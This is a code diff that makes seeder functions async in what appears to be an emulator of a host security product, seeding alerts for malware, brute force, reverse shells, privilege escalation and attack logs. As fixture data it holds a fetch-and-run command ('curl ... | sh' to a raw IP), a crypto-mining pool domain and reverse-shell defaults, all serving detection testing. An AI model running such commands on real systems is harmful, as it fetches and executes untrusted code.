@@ -16,11 +16,11 @@ export { timeOf, type Body } from "./seed-input";
  * seconds; it defaults to the emulator's now.
  */
 
-const malwares: Seeder = (ctx, m, b) => {
+const malwares: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "FindTime", ctx.now());
   const Md5 = str(b, "Md5", hex(32));
-  const trusted = docs<{ md5: string }>(ctx, "trusted-md5").has(Md5);
-  const Id = nextId(ctx, K.malware);
+  const trusted = await docs<{ md5: string }>(ctx, "trusted-md5").has(Md5);
+  const Id = await nextId(ctx, K.malware);
   const doc: MalwareDoc = {
     Id,
     ...host(m),
@@ -35,13 +35,13 @@ const malwares: Seeder = (ctx, m, b) => {
     busyAs: null,
     busyUntil: 0,
   };
-  rec.malwares(ctx).insert(key(Id), doc);
+  await rec.malwares(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const bruteAttacks: Seeder = (ctx, m, b) => {
+const bruteAttacks: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreateTime", ctx.now());
-  const Id = nextId(ctx, K.bruteAttack);
+  const Id = await nextId(ctx, K.bruteAttack);
   const status = oneOfStr(b, "Status", ["BRUTEATTACK_FAIL_ACCOUNT", "BRUTEATTACK_FAIL_NOACCOUNT", "BRUTEATTACK_SUCCESS"], "BRUTEATTACK_FAIL_ACCOUNT");
   const doc = {
     Id,
@@ -60,17 +60,17 @@ const bruteAttacks: Seeder = (ctx, m, b) => {
     BanStatus: str(b, "BanStatus", m.pro !== null && status !== "BRUTEATTACK_SUCCESS" ? "1" : "0"),
     at,
   };
-  rec.bruteAttacks(ctx).insert(key(Id), doc);
+  await rec.bruteAttacks(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const nonlocalLogins: Seeder = (ctx, m, b) => {
+const nonlocalLogins: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "LoginTime", ctx.now());
-  const Id = nextId(ctx, K.nonlocalLogin);
+  const Id = await nextId(ctx, K.nonlocalLogin);
   const place = { Country: num(b, "Country", 1), Province: num(b, "Province", 5), City: num(b, "City", 61) };
   const UserName = str(b, "UserName", "root");
   const SrcIp = str(b, "SrcIp", randomPublicIp());
-  const allowed = loginIsAllowed(ctx, m, { UserName, SrcIp, ...place }, at);
+  const allowed = await loginIsAllowed(ctx, m, { UserName, SrcIp, ...place }, at);
   const doc = {
     Id,
     ...host(m),
@@ -82,18 +82,18 @@ const nonlocalLogins: Seeder = (ctx, m, b) => {
     LoginTime: formatDateTime(at),
     at,
   };
-  rec.nonlocalLogins(ctx).insert(key(Id), doc);
+  await rec.nonlocalLogins(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const vuls: Seeder = (ctx, m, b) => {
+const vuls: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "LastScanTime", ctx.now());
   const catalog = rec.vuls(ctx);
   const name = b.VulName === undefined ? undefined : str(b, "VulName", "");
   let vul: VulDoc | undefined =
-    b.VulId !== undefined ? catalog.get(key(num(b, "VulId", 0))) : name ? catalog.all().find((v) => v.VulName === name) : undefined;
+    b.VulId !== undefined ? await catalog.get(key(num(b, "VulId", 0))) : name ? (await catalog.all()).find((v) => v.VulName === name) : undefined;
   if (!vul) {
-    const VulId = b.VulId !== undefined ? num(b, "VulId", 0) : nextId(ctx, K.vul, 1001);
+    const VulId = b.VulId !== undefined ? num(b, "VulId", 0) : await nextId(ctx, K.vul, 1001);
     check(Number.isInteger(VulId) && VulId > 0, "VulId must be a positive integer");
     vul = {
       VulId,
@@ -105,26 +105,26 @@ const vuls: Seeder = (ctx, m, b) => {
       CveId: str(b, "CveId", "CVE-2018-15473"),
       Reference: str(b, "Reference", "https://nvd.nist.gov/vuln/detail/CVE-2018-15473"),
     };
-    catalog.put(key(vul.VulId), vul);
+    await catalog.put(key(vul.VulId), vul);
   }
   const hosts = rec.impactedHosts(ctx);
   const VulStatus = oneOfStr(b, "VulStatus", ["UN_OPERATED", "FIXED"], "UN_OPERATED") as "UN_OPERATED" | "FIXED";
-  const existing = hosts.all().find((h) => h.VulId === vul!.VulId && h.Uuid === m.uuid);
+  const existing = (await hosts.all()).find((h) => h.VulId === vul!.VulId && h.Uuid === m.uuid);
   if (existing) {
     const again: ImpactedHostDoc = { ...existing, VulStatus, lastScanAt: at, rescanAt: null, patchedAt: VulStatus === "FIXED" ? at : null, at };
-    hosts.update(key(existing.Id), again);
+    await hosts.update(key(existing.Id), again);
     return { Id: existing.Id, record: { vul, impactedHost: again } };
   }
-  const Id = nextId(ctx, K.impactedHost);
+  const Id = await nextId(ctx, K.impactedHost);
   // A host found already fixed stays fixed when rescanned.
   const doc: ImpactedHostDoc = { Id, VulId: vul.VulId, ...host(m), Quuid: m.quuid, VulStatus, lastScanAt: at, rescanAt: null, patchedAt: VulStatus === "FIXED" ? at : null, at };
-  hosts.insert(key(Id), doc);
+  await hosts.insert(key(Id), doc);
   return { Id, record: { vul, impactedHost: doc } };
 };
 
-const maliciousRequests: Seeder = (ctx, m, b) => {
+const maliciousRequests: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreateTime", ctx.now());
-  const Id = nextId(ctx, K.maliciousRequest);
+  const Id = await nextId(ctx, K.maliciousRequest);
   const Domain = str(b, "Domain", "xmr.pool.minergate.com");
   const ProcessName = str(b, "ProcessName", "wget");
   const doc = {
@@ -143,15 +143,15 @@ const maliciousRequests: Seeder = (ctx, m, b) => {
     Pid: num(b, "Pid", 5577),
     at,
   };
-  rec.maliciousRequests(ctx).insert(key(Id), doc);
+  await rec.maliciousRequests(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const bashEvents: Seeder = (ctx, m, b) => {
+const bashEvents: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreateTime", ctx.now());
   const BashCmd = str(b, "BashCmd", "curl -fsSL http://185.10.68.147/ldr.sh | sh");
-  const rule = matchBashRule(ctx, m.uuid, BashCmd);
-  const Id = nextId(ctx, K.bashEvent);
+  const rule = await matchBashRule(ctx, m.uuid, BashCmd);
+  const Id = await nextId(ctx, K.bashEvent);
   const doc = {
     Id,
     Uuid: m.uuid,
@@ -168,16 +168,16 @@ const bashEvents: Seeder = (ctx, m, b) => {
     MachineName: m.name,
     at,
   };
-  rec.bashEvents(ctx).insert(key(Id), doc);
+  await rec.bashEvents(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const privilegeEvents: Seeder = (ctx, m, b) => {
+const privilegeEvents: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreateTime", ctx.now());
   const ProcessName = str(b, "ProcessName", "pkexec");
-  const rule = matchPrivilegeRule(ctx, m.uuid, ProcessName);
+  const rule = await matchPrivilegeRule(ctx, m.uuid, ProcessName);
   if (rule) return { Id: null, suppressedByRule: rule.Id };
-  const Id = nextId(ctx, K.privilegeEvent);
+  const Id = await nextId(ctx, K.privilegeEvent);
   const doc = {
     Id,
     Uuid: m.uuid,
@@ -199,18 +199,18 @@ const privilegeEvents: Seeder = (ctx, m, b) => {
     MachineName: m.name,
     at,
   };
-  rec.privilegeEvents(ctx).insert(key(Id), doc);
+  await rec.privilegeEvents(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const reverseShells: Seeder = (ctx, m, b) => {
+const reverseShells: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreateTime", ctx.now());
   const ProcessName = str(b, "ProcessName", "bash");
   const DstIp = str(b, "DstIp", randomPublicIp());
   const DstPort = num(b, "DstPort", 8080);
-  const rule = matchReverseShellRule(ctx, m.uuid, { ProcessName, DstIp, DstPort });
+  const rule = await matchReverseShellRule(ctx, m.uuid, { ProcessName, DstIp, DstPort });
   if (rule) return { Id: null, suppressedByRule: rule.Id };
-  const Id = nextId(ctx, K.reverseShell);
+  const Id = await nextId(ctx, K.reverseShell);
   const doc = {
     Id,
     Uuid: m.uuid,
@@ -233,13 +233,13 @@ const reverseShells: Seeder = (ctx, m, b) => {
     ProcTree: str(b, "ProcTree", `${ProcessName}(root),bash(root),sshd(root),systemd(root)`),
     at,
   };
-  rec.reverseShells(ctx).insert(key(Id), doc);
+  await rec.reverseShells(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
-const attackLogs: Seeder = (ctx, m, b) => {
+const attackLogs: Seeder = async (ctx, m, b) => {
   const at = timeOf(b, "CreatedAt", ctx.now());
-  const Id = nextId(ctx, K.attackLog);
+  const Id = await nextId(ctx, K.attackLog);
   const HttpMethod = oneOfStr(b, "HttpMethod", ["GET", "POST", "PUT", "DELETE", "HEAD", "OPTIONS"], "POST");
   const DstPort = num(b, "DstPort", 80);
   const HttpCgi = str(b, "HttpCgi", "/index.php");
@@ -268,7 +268,7 @@ const attackLogs: Seeder = (ctx, m, b) => {
     HttpReferer: str(b, "HttpReferer", ""),
     at,
   };
-  rec.attackLogs(ctx).insert(key(Id), doc);
+  await rec.attackLogs(ctx).insert(key(Id), doc);
   return { Id, record: doc };
 };
 
